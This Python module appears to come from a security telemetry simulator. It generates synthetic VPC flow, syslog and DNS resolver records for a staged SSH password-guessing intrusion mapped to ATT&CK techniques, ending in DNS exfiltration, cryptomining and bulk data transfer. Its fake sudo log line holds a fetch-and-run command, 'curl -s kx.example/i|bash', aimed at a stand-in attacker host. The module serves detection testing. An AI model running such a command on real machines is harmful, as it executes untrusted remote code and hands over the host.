"""A password is guessed on a machine, and the machine begins to talk."""

from __future__ import annotations

import json
from datetime import timedelta

from vedette.simulate import ids
from vedette.simulate.intrusions._cast import address, look
from vedette.simulate.org import nat_address
from vedette.simulate.stage import Stage, Story

_OWN = "10.2.1.14"


def tell(stage: Stage) -> None:
    """Tell how SSH is knocked on and entered, and of calls home, names asked for, and a borrowed role."""
    guesser, home = address(stage, "home"), address(stage, "cloud")
    instance, eni, person = stage.have("instance")[4], stage.have("eni")[4], stage.person("Developer", "PowerUser")
    stage.facts.update(ip=guesser, home=home, instance=instance, person=person.name)
    stage.scene("Reconnaissance", "T1595.001", "ports of a machine knocked on")
    for port in (21, 22, 23, 80, 443, 3306, 3389, 5432, 5900, 6379, 8080, 9200):
        _flow(stage, eni, guesser, port, packets=1, size=44, action="REJECT")
    for _ in range(60):
        _flow(stage, eni, guesser, 22, packets=1, size=44, action="REJECT")
    stage.wait(120, 300)
    stage.scene("Defense Evasion", "T1562.007", "a colleague opens SSH to the world", expected=False)
    opener = stage.portal(person, person.ip, person.browser, console=True)
    entry = {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}
    permissions = {"groupId": stage.have("sg")[0], "ipPermissions": {"items": [entry]}}
    stage.do(opener, "ec2:AuthorizeSecurityGroupIngress", permissions, {"_return": True})
    stage.wait(30, 90)
    stage.scene("Credential Access", "T1110.001", "SSH passwords guessed until one fits")
    for number in range(220):
        _flow(stage, eni, guesser, 22, packets=12, size=2400)
        user = ("root", "admin", "ubuntu", "deploy")[number % 4]
        _said(
            stage,
            instance,
            f"sshd[{4000 + number}]: Failed password for {user} from {guesser} port {20000 + number} ssh2",
        )
    stage.scene("Initial Access", "T1021.004", "SSH entered after many failures")
    _said(stage, instance, f"sshd[4321]: Accepted password for deploy from {guesser} port 21987 ssh2")
    _flow(stage, eni, guesser, 22, packets=5200, size=3_100_000)
    _said(
        stage,
        instance,
        "sudo:   deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash -c curl -s kx.example/i|bash",
    )
    _inside(stage, instance, eni, home)


def _inside(stage: Stage, instance: str, eni: str, home: str) -> None:
    """What the machine does once it is theirs."""
    stage.scene("Discovery", "T1580", "the machine's role tried out by hand")
    role = f"{stage.account.name}-{stage.have('app')[1]}-role"
    nat = nat_address(stage.org, stage.account, stage.region)
    agent = "aws-cli/1.22.34 Python/3.10.12 Linux/6.1.141 botocore/1.23.34"
    hand = stage.borrowed(role, instance, nat, agent, ec2RoleDelivery="2.0")
    look(
        stage,
        hand,
        "sts:GetCallerIdentity",
        "iam:ListRoles",
        "s3:ListBuckets",
        "secretsmanager:ListSecrets",
        "ec2:DescribeInstances",
        "iam:GetAccountAuthorizationDetails",
        refused=("iam:ListRoles", "secretsmanager:ListSecrets", "iam:GetAccountAuthorizationDetails"),
    )
    stage.scene("Command and Control", "T1071.001", "regular calls to one address outside")
    began = stage.now
    for _ in range(240):
        _flow(stage, eni, home, 443, packets=9, size=1460 + stage.rng.randrange(40), out=True)
        stage.now += timedelta(seconds=300 + stage.rng.uniform(-8, 8))
    stage.now = began + timedelta(minutes=45)
    stage.scene("Exfiltration", "T1048", "data carried out in names asked of the DNS")
    for _ in range(400):
        label = "".join(stage.rng.choices("abcdefghijklmnopqrstuvwxyz234567", k=56))
        _name(stage, instance, f"{label}.{ids.hexadecimal(stage.rng, 8)}.t.kx-cdn.example.", "TXT")
        stage.now += timedelta(seconds=stage.rng.uniform(1, 9))
    stage.scene("Impact", "T1496.001", "a mining pool's name asked for")
    for pool in ("pool.supportxmr.com.", "xmr.2miners.com."):
        _name(stage, instance, pool, "A")
    _flow(stage, eni, "141.94.96.71", 3333, packets=420, size=61_000, out=True)
    stage.scene("Exfiltration", "T1030", "a great deal sent to one address")
    for _ in range(12):
        _flow(stage, eni, home, 443, packets=1_900_000, size=2_600_000_000, out=True)
        stage.now += timedelta(seconds=60)


def _flow(stage: Stage, eni: str, peer: str, port: int, *, packets: int, size: int, **more: str | bool) -> None:
    """One line of the flow log; the other side comes in, or with `out` is gone to."""
    began = int(stage.now.timestamp())
    stage.now += timedelta(seconds=stage.rng.uniform(0.2, 4))
    ends = (_OWN, peer) if more.get("out") else (peer, _OWN)
    action = more.get("action", "ACCEPT")
    stage.trace(
        "vpc_flow",
        f"2 {stage.account.id} {eni} {ends[0]} {ends[1]} {stage.rng.randrange(20000, 60000)} {port} 6 "
        f"{packets} {size} {began} {began + stage.rng.randrange(1, 58)} {action} OK",
    )


def _said(stage: Stage, instance: str, text: str) -> None:
    """One line of the machine's syslog."""
    host = "ip-" + _OWN.replace(".", "-")
    stage.trace("linux_syslog", f"{stage.now:%b} {stage.now.day:>2} {stage.now:%H:%M:%S} {host} {text}", instance)


def _name(stage: Stage, instance: str, name: str, kind: str) -> None:
    """One name asked of the resolver."""
    asked = {
        "version": "1.100000",
        "account_id": stage.account.id,
        "region": stage.region,
        "vpc_id": stage.have("vpc")[0],
        "query_timestamp": stage.iso(),
        "query_name": name,
        "query_type": kind,
        "query_class": "IN",
        "rcode": "NOERROR",
        "answers": [{"Rdata": '"ok"' if kind == "TXT" else "141.94.96.71", "Type": kind, "Class": "IN"}],
        "srcaddr": _OWN,
        "srcport": str(stage.rng.randrange(1024, 65535)),
        "transport": "UDP",
        "srcids": {"instance": instance},
    }
    stage.trace("resolver", json.dumps(asked, separators=(",", ":")))


STORY = Story(
    name="guessed-password",
    title="A password is guessed and the machine begins to talk",
    text=(
        "{ip} knocks on a machine of {account} in vain, until {person} opens SSH to the world for an afternoon. Then a "
        "password fits. {instance} tries its role, calls {home} every five minutes, carries data out in names asked of "
        "the DNS, mines, and sends a great deal away."
    ),
    hours=34,
    tell=tell,
)
